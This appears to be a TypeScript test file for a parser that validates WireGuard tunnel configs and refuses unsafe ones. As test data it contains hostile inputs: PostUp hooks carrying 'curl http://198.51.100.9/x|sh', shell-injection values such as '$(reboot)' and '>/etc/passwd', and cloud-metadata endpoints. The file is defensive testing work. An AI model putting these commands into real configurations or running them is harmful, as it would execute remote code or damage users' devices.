import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { messageOf, TributaryError } from '../../../../src/errors/codes.ts';
import type { IssuedTunnel } from '../../../../src/identity/registration-files.ts';
import { Secret } from '../../../../src/lib/secret.ts';
import { parseIssuedTunnel } from '../../../../src/source/wireguard/parse.ts';
import { assertLaw } from '../../law.ts';
import { clientKeys, createIssued, proxyPublicKey, renderIssuedText } from './issued-fixture.ts';

const parse = (text: string, fields: Partial<IssuedTunnel> = {}, isServiceOnLoopback = false) =>
  parseIssuedTunnel(createIssued(text, fields), { isServiceOnLoopback });

function catchRefusal(text: string, fields: Partial<IssuedTunnel> = {}): string {
  try {
    parse(text, fields);
  } catch (error) {
    expect(error).toBeInstanceOf(TributaryError);
    expect((error as TributaryError).code).toBe('wireguard-text-refused');
    return messageOf(error);
  }
  throw new Error('it was accepted');
}

const withLine = (line: string, after = 'DNS') =>
  renderIssuedText({ [after]: `DNS = 1.1.1.1\n${line}` });
const inPeer = (line: string) => `${renderIssuedText()}\n${line}`;
const other = 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaA=';

describe('a text', () => {
  test('as production issues it becomes a tunnel', () => {
    expect(parse(renderIssuedText())).toEqual({
      privateKey: new Secret(clientKeys.privateKey),
      publicKey: clientKeys.publicKey,
      addresses: [{ family: 4, address: '10.23.45.67' }],
      mtu: undefined,
      peer: {
        publicKey: proxyPublicKey,
        presharedKey: undefined,
        endpoint: { host: 'proxy.example.net', port: 51_820 },
        allowedIps: ['0.0.0.0/0'],
        persistentKeepaliveSeconds: 25,
      },
    });
  });

  test.each([
    ['with Windows line ends', renderIssuedText().replaceAll('\n', '\r\n')],
    ['with a last line end', `${renderIssuedText()}\n`],
    [
      'with comments',
      `# issued\n${renderIssuedText({ DNS: 'DNS = 1.1.1.1 # a resolver; $(reboot)' })}\n# PostUp = reboot`,
    ],
    [
      'with comments in any letters, which are dropped',
      `# proxy São Paulo\n${renderIssuedText({ DNS: 'DNS = 1.1.1.1 # Düsseldorf \u0430 \u001b[2J' })}\n# 東京 🗼`,
    ],
    [
      'with a preshared key of zeros, which wg takes for none',
      inPeer(`PresharedKey = ${'A'.repeat(43)}=`),
    ],
    ['without spaces', renderIssuedText().replaceAll(' = ', '=')],
    [
      'with tabs and blanks',
      renderIssuedText().replaceAll(' = ', ' \t=\t ').replaceAll('\n', '  \n\t'),
    ],
    [
      'with keys in any case',
      renderIssuedText().replace('PrivateKey', 'privatekey').replace('[Peer]', '[PEER]'),
    ],
    ['without DNS', renderIssuedText({ DNS: undefined })],
    ['with a listening port', withLine('ListenPort = 51820')],
    ['with the peer first', renderIssuedText().split('\n\n').reverse().join('\n')],
    [
      'with a wide address, of which one is taken',
      renderIssuedText({ Address: 'Address = 10.23.45.67/8' }),
    ],
    ['with a bare address', renderIssuedText({ Address: 'Address = 10.23.45.67' })],
    [
      'with an address said twice',
      renderIssuedText({ Address: 'Address = 10.23.45.67/32, 10.23.45.67' }),
    ],
    [
      'with 32 addresses',
      renderIssuedText({ Address: `Address = ${Array(32).fill('10.23.45.67').join(',')}` }),
    ],
    ['of just 16 KiB', `${renderIssuedText()}\n#`.padEnd(16 * 1024, 'x')],
  ])('%s means the same', (_, text) => {
    expect(parse(text)).toEqual(parse(renderIssuedText()));
  });

  test('with everything that may be given is read', () => {
    const text = renderIssuedText({
      Address: 'Address = 10.23.45.67/32, FD00:0:0::1/64\nAddress = 100.64.0.9\nMTU = 1280',
      Endpoint: 'Endpoint = [2001:db8::1]:1',
      AllowedIPs: 'AllowedIPs = 0.0.0.0/0, ::/0',
      PersistentKeepalive: `PersistentKeepalive = off\nPresharedKey = ${other}`,
    });
    const spec = parse(text);
    expect(spec.addresses.map((own) => own.address)).toEqual([
      '10.23.45.67',
      'fd00::1',
      '100.64.0.9',
    ]);
    expect(spec.mtu).toBe(1280);
    expect(spec.peer.presharedKey?.reveal()).toBe(other);
    expect(spec.peer).toMatchObject({
      endpoint: { host: '2001:db8::1', port: 1 },
      allowedIps: ['0.0.0.0/0', '::/0'],
      persistentKeepaliveSeconds: undefined,
    });
  });

  test.each([
    ['localhost:51820'],
    ['127.0.0.1:51820'],
    ['[::1]:51820'],
    ['[::ffff:127.0.0.1]:51820'],
  ])('may lead to %s only where the service is there too', (endpoint) => {
    const text = renderIssuedText({ Endpoint: `Endpoint = ${endpoint}` });
    expect(catchRefusal(text)).toMatch(/Endpoint/);
    if (!endpoint.includes('ffff')) expect(parse(text, {}, true).peer.endpoint.port).toBe(51_820);
  });
});

test.each<[string, string, object]>([
  ['the last port', 'Endpoint = proxy.example.net:65535', { peer: { endpoint: { port: 65_535 } } }],
  ['the largest MTU', 'MTU = 1500', { mtu: 1500 }],
  [
    'the longest keepalive',
    'PersistentKeepalive = 65535',
    { peer: { persistentKeepaliveSeconds: 65_535 } },
  ],
  ...['off', 'Off', 'OFF'].map((word): [string, string, object] => [
    `a keepalive that is ${word}`,
    `PersistentKeepalive = ${word}`,
    { peer: { persistentKeepaliveSeconds: undefined } },
  ]),
  ['a silent peer', 'PersistentKeepalive = 0', { peer: { persistentKeepaliveSeconds: 0 } }],
  [
    'a host that is only called like this device',
    'Endpoint = localhost.example:51820',
    { peer: { endpoint: { host: 'localhost.example' } } },
  ],
])('%s is taken', (_, line, expected) => {
  const key = line.startsWith('MTU') ? 'DNS' : (line.split(' ')[0] ?? '');
  expect(parse(renderIssuedText({ [key]: line }))).toMatchObject(expected);
});

describe('a text is refused', () => {
  const hooks = ['PreUp', 'PostUp', 'PreDown', 'PostDown', 'SaveConfig', 'Table', 'FwMark'];

  test.each(hooks.flatMap((hook) => [hook, hook.toLowerCase(), hook.toUpperCase()]))(
    'that holds %s, in either section',
    (hook) => {
      expect(catchRefusal(withLine(`${hook} = off`))).toContain('would change this device');
      expect(catchRefusal(inPeer(`${hook}=true`))).toContain(hook);
      expect(catchRefusal(withLine(`${hook} = curl http://198.51.100.9/x|sh`))).not.toContain(
        'curl',
      );
    },
  );

  test.each<[string, string, string]>([
    ['an empty text', '', 'no [Interface]'],
    ['nothing but comments', '# one\n# two', 'no [Interface]'],
    ['no [Interface]', renderIssuedText().split('\n\n')[1] ?? '', 'no [Interface]'],
    ['no [Peer]', renderIssuedText().split('\n\n')[0] ?? '', 'no [Peer]'],
    ['[Interface] twice', `${renderIssuedText()}\n[Interface]`, 'more than one [Interface]'],
    ['[Peer] twice', `${renderIssuedText()}\n[Peer]\nPublicKey = ${other}`, 'more than one [Peer]'],
    ['[peer] twice in another case', `${renderIssuedText()}\n[peer]`, 'more than one [Peer]'],
    ['another section', `${renderIssuedText()}\n[Evil]`, 'neither [Interface] nor [Peer]'],
    [
      'a line before its first section',
      `MTU = 1400\n${renderIssuedText()}`,
      'before its first section',
    ],
    ['half a section', renderIssuedText({ '[Peer]': '[Peer' }), 'not KEY = VALUE'],
    ['words before a section', renderIssuedText({ '[Peer]': 'x [Peer]' }), 'not KEY = VALUE'],
    ['words behind a section', renderIssuedText({ '[Peer]': '[Peer] x' }), 'not KEY = VALUE'],
    ['a line that is none', withLine('reboot'), 'not KEY = VALUE'],
    ['a key of two words', withLine('Post Up = x'), 'not KEY = VALUE'],
    ['a lone carriage return', withLine('MTU = 1400\rPostUp = x'), 'not KEY = VALUE'],
    ['a comment that a carriage return ends', withLine('# x\rPostUp = x'), 'not KEY = VALUE'],
    ['an unknown key', withLine('Jc = 4'), 'unknown key Jc'],
    ['a key of the other section', inPeer('MTU = 1400'), 'unknown key MTU'],
    ['a private key of the peer', inPeer(`PrivateKey = ${other}`), 'unknown key PrivateKey'],
    ['a name of every object', withLine('constructor = x'), 'unknown key constructor'],
    ['a NUL', withLine('MTU = 14\u000000'), 'characters that no'],
    ['an escape', withLine('MTU = 1400\u001b[2J'), 'characters that no'],
    ['a line separator', withLine('# \u2028PostUp = x'), 'characters that no'],
    ['another line separator', withLine('# \u2029PostUp = x'), 'characters that no'],
    ['a letter that only looks Latin', withLine('\u0410ddress = 10.0.0.1'), 'characters that no'],
    ['a value in other letters', withLine('DNS = São'), 'characters that no'],
    ['16 KiB and one', `${renderIssuedText()}\n#${'x'.repeat(16 * 1024)}`, 'longer than 16 KiB'],
    ['megabytes', `${renderIssuedText()}\n${'# x\n'.repeat(2 ** 20)}`, '16 KiB'],
    ...[
      '$(reboot)',
      '`reboot`',
      '1;reboot',
      '1|sh',
      '1&&reboot',
      '>/etc/passwd',
      "'x'",
      '"x"',
      '\\x',
      '%i',
      '~',
      '*',
    ].map((value): [string, string, string] => [
      `the value ${value}`,
      withLine(`DNS = ${value}`),
      'characters that no',
    ]),
  ])('with %s', (_, text, why) => {
    expect(catchRefusal(text)).toContain(why);
  });

  test.each<[string, string | undefined, string]>([
    ['PrivateKey', undefined, 'no PrivateKey'],
    ['PrivateKey', `PrivateKey = ${other}\nPrivateKey = ${other}`, 'PrivateKey is given 2 times'],
    ['PrivateKey', 'PrivateKey =', 'not a WireGuard key'],
    ['PrivateKey', 'PrivateKey = abcd', 'not a WireGuard key'],
    ['PrivateKey', `PrivateKey = ${other.slice(0, -1)}`, 'not a WireGuard key'],
    ['PrivateKey', `PrivateKey = ${other.slice(0, -2)}B=`, 'not a WireGuard key'],
    ['PrivateKey', `PrivateKey = ${other.replace('a', '-')}`, 'not a WireGuard key'],
    ['PrivateKey', `PrivateKey = ${'A'.repeat(43)}=`, 'not a WireGuard key'],
    ['PublicKey', undefined, 'no PublicKey'],
    ['PublicKey', `PublicKey = ${other.repeat(2)}`, 'not a WireGuard key'],
    ['PublicKey', `PublicKey = ${'A'.repeat(43)}=`, 'not a WireGuard key'],
    ['PublicKey', `PublicKey = ${clientKeys.publicKey}`, 'this device itself'],
    ['PersistentKeepalive', 'PersistentKeepalive = 65536', 'from 0 to 65535'],
    ['PersistentKeepalive', 'PersistentKeepalive = -1', 'from 0 to 65535'],
    ['PersistentKeepalive', 'PersistentKeepalive = 2.5', 'from 0 to 65535'],
    ['PersistentKeepalive', 'PersistentKeepalive = 0x19', 'from 0 to 65535'],
    ['PersistentKeepalive', 'PersistentKeepalive = ', 'from 0 to 65535'],
    ['DNS', 'MTU = 1279', 'from 1280 to 1500'],
    ['DNS', 'MTU = 1501', 'from 1280 to 1500'],
    ['DNS', 'MTU = off', 'from 1280 to 1500'],
    ['DNS', 'MTU = 1400\nMTU = 1400', 'MTU is given 2 times'],
    ['AllowedIPs', 'AllowedIPs = ::/0\nPresharedKey = abcd', 'not a WireGuard key'],
    [
      'AllowedIPs',
      `AllowedIPs = ::/0\nPresharedKey = ${other}\nPresharedKey = ${'A'.repeat(43)}=`,
      'PresharedKey is given 2 times',
    ],
    ['DNS', `PresharedKey = ${other}`, 'unknown key PresharedKey'],
    ['Address', undefined, 'no Address'],
    ['Address', 'Address =', 'not an IP address'],
    ['Address', 'Address = 10.0.0.1,', 'not an IP address'],
    ['Address', 'Address = 10.0.0.1/33', 'not an IP address'],
    ['Address', 'Address = 10.0.0.256', 'not an IP address'],
    ['Address', 'Address = proxy.example.net', 'not an IP address'],
    ['Address', `Address = ${Array(33).fill('10.0.0.1').join(',')}`, 'more than 32'],
    ...[
      '8.8.8.8/32',
      '224.0.0.1',
      '255.255.255.255',
      '127.0.0.1/8',
      '0.0.0.0/0',
      '169.254.1.1/16',
      '172.32.0.1',
      '100.128.0.1',
      '192.0.2.1',
      '::/0',
      '::1/128',
      '::ffff:10.0.0.1',
      'fe80::1/64',
      'ff02::1',
      '2001:db8::1',
      '2606:4700::1111',
    ].map((address): [string, string, string] => [
      'Address',
      `Address = ${address}`,
      'not a private one',
    ]),
    ['Endpoint', undefined, 'not HOST:PORT'],
    ...[
      '',
      'proxy.example.net',
      'proxy.example.net:',
      ':51820',
      'proxy.example.net:0',
      'proxy.example.net:65536',
      'proxy.example.net:+1',
      'proxy.example.net:99999999999',
      '2001:db8::1:51820',
      '[2001:db8::1]',
      'proxy.example.net:51820x',
      '[proxy.example.net]:51820',
      '[]:51820',
    ].map((endpoint): [string, string, string] => [
      'Endpoint',
      `Endpoint = ${endpoint}`,
      'not HOST:PORT',
    ]),
    ...[
      '1.2.3:51820',
      '1.2.3.4.5:51820',
      '2130706433:51820',
      '0x7f000001:51820',
      '0x7f.1:51820',
      'proxy.0x1:51820',
      'proxy.12:51820',
      '-proxy.example.net:51820',
      'proxy-.example.net:51820',
      'proxy..net:51820',
      '.:51820',
      `${'a'.repeat(64)}.net:51820`,
      `${'a.'.repeat(127)}net:51820`,
      'proxy net:51820',
      'a,b:51820',
      'a/b:51820',
      '[1.2.3.4.5]:51820',
      '[:::]:51820',
    ].map((endpoint): [string, string, string] => [
      'Endpoint',
      `Endpoint = ${endpoint}`,
      'impossible host',
    ]),
    ...[
      '0.0.0.0:51820',
      '169.254.169.254:80',
      '224.0.0.1:51820',
      '255.255.255.255:51820',
      '[::]:51820',
      '[fe80::1]:51820',
      '[ff02::1]:51820',
      '[::ffff:169.254.169.254]:51820',
    ].map((endpoint): [string, string, string] => [
      'Endpoint',
      `Endpoint = ${endpoint}`,
      "no server's address",
    ]),
    ...[
      'localhost',
      'LocalHost',
      'x.localhost',
      '127.0.0.1',
      '127.255.0.1',
      '[::1]',
      '[0:0:0:0:0:0:0:1]',
    ].map((host): [string, string, string] => [
      'Endpoint',
      `Endpoint = ${host}:51820`,
      'this device itself',
    ]),
    ['AllowedIPs', undefined, 'no AllowedIPs'],
    ...[
      '',
      '10.0.0.0/33',
      '::/129',
      '0.0.0.0/0,',
      'all',
      '0.0.0.0/0 ::/0',
      '10.0.0.0/-1',
      '10/8',
    ].map((ips): [string, string, string] => ['AllowedIPs', `AllowedIPs = ${ips}`, 'not a prefix']),
    ['AllowedIPs', `AllowedIPs = ${Array(33).fill('::/0').join(',')}`, 'more than 32'],
  ])('whose %s is %j', (key, line, why) => {
    const message = catchRefusal(renderIssuedText({ [key]: line }));
    expect(message).toContain(why);
    expect(message).not.toContain(clientKeys.privateKey);
    expect(message).not.toContain(other);
  });

  test.each<[string, Partial<IssuedTunnel>]>([
    ['client_private_key', { privateKey: new Secret(other) }],
    ['client_public_key', { publicKey: other }],
    ['proxy_public_key', { proxyPublicKey: other }],
    ['client_ipv4', { address: '10.23.45.68/32' }],
    ['client_ipv4', { address: 'nonsense' }],
    ['wg_proxy_port', { proxyPort: 51_821 }],
    ['proxy_host', { proxyHost: 'other.example.net' }],
  ])('that does not agree with %s beside it', (field, fields) => {
    const message = catchRefusal(renderIssuedText(), fields);
    expect(message).toContain(field);
    expect(message).not.toContain(other);
  });

  test('with every field that it does not agree with', () => {
    expect(catchRefusal(renderIssuedText(), { publicKey: other, proxyPort: 1 })).toMatch(
      /client_public_key, wg_proxy_port/,
    );
  });

  test('without showing a secret key in the place of a setting’s name', () => {
    const letters = 'A'.repeat(42).concat('Q');
    expect(catchRefusal(withLine(`${letters}=`))).not.toContain('A'.repeat(21));
  });
});

test.each<[string, Partial<IssuedTunnel>]>([
  [
    'everything',
    {
      privateKey: new Secret(clientKeys.privateKey),
      publicKey: clientKeys.publicKey,
      proxyPublicKey,
    },
  ],
  ['a bare address', { address: '10.23.45.67' }],
  ['an address with its prefix length', { address: '10.23.45.67/32' }],
  ['the proxy', { proxyHost: 'Proxy.Example.NET.', proxyPort: 51_820 }],
])('fields that agree are no obstacle: %s', (_, fields) => {
  expect(parse(renderIssuedText(), fields).addresses).toHaveLength(1);
});

describe('a proxy host beside the text', () => {
  const text = renderIssuedText({ Endpoint: 'Endpoint = [2001:db8::1]:51820' });

  test.each(['2001:db8::1', '[2001:db8::1]', '2001:DB8::1'])(
    'may be written as %s',
    (proxyHost) => {
      expect(parse(text, { proxyHost }).peer.endpoint.host).toBe('2001:db8::1');
    },
  );

  test.each(['x[2001:db8::1]', '[2001:db8::1]x', '2001:db8::2', ''])(
    'does not match %j',
    (proxyHost) => {
      expect(catchRefusal(text, { proxyHost })).toContain('proxy_host');
    },
  );

  test('has to match one of several addresses', () => {
    const two = renderIssuedText({ Address: 'Address = 10.23.45.67, 10.23.45.68' });
    expect(parse(two, { address: '10.23.45.68/32' }).addresses).toHaveLength(2);
  });
});

describe('whatever the service sends', () => {
  const words = fc.constantFrom(
    ...[
      '[Interface]',
      '[Peer]',
      'PrivateKey',
      'Address',
      'Endpoint',
      'AllowedIPs',
      'MTU',
      'PostUp',
      '=',
      ' ',
      '\n',
      '\r',
    ],
    ...[
      other,
      clientKeys.privateKey,
      '10.0.0.1',
      '::1',
      '[',
      ']',
      ':',
      '/',
      ',',
      '#',
      '%eth0',
      '51820',
      '0.0.0.0/0',
    ],
  );
  const texts = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 300 }),
    fc.array(words, { maxLength: 40 }).map((parts) => parts.join('')),
    fc
      .record({
        at: fc.nat(renderIssuedText().length),
        cut: fc.nat(30),
        insert: fc.oneof(fc.string(), words),
      })
      .map(
        ({ at, cut, insert }) =>
          renderIssuedText().slice(0, at) + insert + renderIssuedText().slice(at + cut),
      ),
  );

  test('is refused in words of ours, or is a tunnel with keys, private addresses and prefixes', () => {
    assertLaw(fc.tuple(texts, fc.option(fc.string(), { nil: undefined })), ([text, address]) => {
      try {
        const spec = parse(text, { address });
        expect(spec.addresses.length).toBeGreaterThan(0);
        expect(spec.peer.endpoint.host).toMatch(/^[0-9A-Za-z.:_-]+$/);
        for (const prefix of spec.peer.allowedIps)
          expect(prefix).toMatch(/^[0-9a-fA-F.:]+(\/\d+)?$/);
      } catch (error) {
        if (!(error instanceof TributaryError)) throw error;
        expect(error.code).toBe('wireguard-text-refused');
        expect(error.message).not.toContain(clientKeys.privateKey);
      }
    });
  });
});
